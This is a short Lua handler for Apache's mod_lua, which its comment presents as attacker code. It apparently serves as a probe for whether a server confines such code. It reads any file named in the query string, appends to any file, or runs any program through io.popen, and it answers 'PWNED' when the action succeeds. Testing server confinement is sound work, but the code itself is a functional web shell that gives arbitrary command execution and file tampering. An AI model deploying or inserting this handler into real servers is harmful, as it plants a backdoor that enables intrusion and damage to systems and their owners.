-- Code of an attacker inside Apache: "?read:FILE", "?write:FILE" or "?run:PROGRAM"; answers PWNED when that worked.
function handle(r)
  local what, with = string.match(r.args or "", "^(%a+):(.*)$")
  local done = false
  if what == "read" then
    local file = io.open(with)
    done = file ~= nil and file:read(1) ~= nil
  elseif what == "write" then
    local file = io.open(with, "a")
    done = file ~= nil and file:write("#\n") ~= nil and file:close() ~= nil
  elseif what == "run" then
    local pipe = io.popen(with)
    done = pipe ~= nil and pipe:read(1) ~= nil
  end
  r.content_type = "text/plain"
  r:puts(done and "PWNED\n" or "held\n")
  return apache2.OK
end
